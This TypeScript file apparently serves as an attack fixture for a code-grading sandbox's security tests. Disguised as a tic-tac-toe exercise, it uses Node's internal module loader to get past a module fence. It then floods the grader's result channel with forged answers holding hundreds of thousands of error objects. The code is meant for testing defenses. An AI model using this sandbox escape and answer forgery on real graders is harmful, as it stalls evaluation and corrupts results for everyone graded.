// Attack: forged answers that cost the grader, not the sandbox. The code reaches for fs through Node's
// own loader (module.constructor._load) to write, at every call of createBoard, an answer of its own
// straight into the sandbox's channel (fd 4 with named pipes, else standard output): every other
// one holds 380,000 error objects (30 MB), the others 19,000 (1.5 MB, under any limit per answer).
// The sandbox itself stays small and fast; the grader's side had to build every object after the
// call had returned, where no deadline stopped it, and a review saw a whole test file freeze until
// the watchdog stopped it, and every student of that file get 0. The module fence (fence.js)
// refuses the loader; the caps on answers behind it are attacked in tests/workbook/membrane.test.ts.

const loader = module.constructor as unknown as { _load(request: string): typeof import('node:fs') };
const fs = loader._load('node:fs');
const state = globalThis as unknown as { forgedIds?: number; forgedCalls?: number };

/** Writes one forged answer of `count` error objects into the channel. */
function forge(count: number): void {
  const out = process.argv[1] === 'pipes' ? 4 : 1;
  const parts: string[] = [];
  for (let index = 0; index < count; index += 1) {
    state.forgedIds = (state.forgedIds ?? 0) + 1;
    parts.push(`{"id":"Z${state.forgedIds}","k":"err","name":"E","message":"","stack":"x","fields":[]}`);
  }
  const body = Buffer.from(`{"t":"res","slots":[null],"nodes":[${parts.join(',')}],"threw":false}`, 'utf8');
  const head = Buffer.alloc(4);
  head.writeUInt32LE(body.length, 0);
  fs.writeSync(out, head);
  let offset = 0;
  while (offset < body.length) offset += fs.writeSync(out, body, offset, body.length - offset);
}

export type Mark = 'X' | 'O';
export const EMPTY = ' ';
export type Cell = Mark | typeof EMPTY;
export type Board = Cell[];
export type GridCell = Mark | '.';
export type Grid = GridCell[][];

export function createBoard(): Board {
  state.forgedCalls = (state.forgedCalls ?? 0) + 1;
  forge(state.forgedCalls % 2 === 1 ? 380_000 : 19_000);
  return [];
}
export function renderBoard(board: Board): string {
  throw new Error('not implemented yet: renderBoard');
}
export function renderFramed(board: Board): string {
  throw new Error('not implemented yet: renderFramed');
}
export function createGrid(): Grid {
  throw new Error('not implemented yet: createGrid');
}
export function renderGrid(grid: Grid): string {
  throw new Error('not implemented yet: renderGrid');
}
